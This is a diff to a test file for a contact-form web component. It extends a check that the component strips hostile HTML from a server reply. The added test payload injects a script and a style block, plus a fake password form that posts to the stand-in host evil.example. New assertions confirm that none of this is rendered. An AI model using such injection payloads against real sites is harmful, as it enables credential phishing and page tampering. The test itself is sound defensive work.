@@ -206,11 +206,19 @@ describe('<pb-contact-form>', () => {
     ]);
     expect(el.getAttribute('aria-busy')).to.equal('true');
     expect($(el, 'button').getAttribute('aria-disabled')).to.equal('true');
-    release(new Response(`<p class="ok">Thank you, Ann.</p>${PROBE}<script>window.__xss=2</script>`));
+    release(
+      new Response(
+        `<p class="ok">Thank you, Ann.</p>${PROBE}<script>window.__xss=2</script><style>body{color:red}</style><form action="https://evil.example/"><input name="password"></form>`,
+      ),
+    );
     await waitUntil(() => !el.hasAttribute('aria-busy'), 'the answer is handled');
     expect(el.querySelector('form')).to.equal(null);
     expect(el.querySelector('.ok')?.textContent).to.equal('Thank you, Ann.');
     expect(el.querySelector('script, [onerror]')).to.equal(null);
+    expect(
+      el.querySelector('style, form, input')?.outerHTML ?? null,
+      'nothing that restyles or asks for input',
+    ).to.equal(null);
     expect((window as unknown as { __xss?: number }).__xss).to.equal(undefined);
     expect(document.activeElement?.getAttribute('role')).to.equal('status');
     expect(events).to.deep.equal([{ form: 'cf' }]);
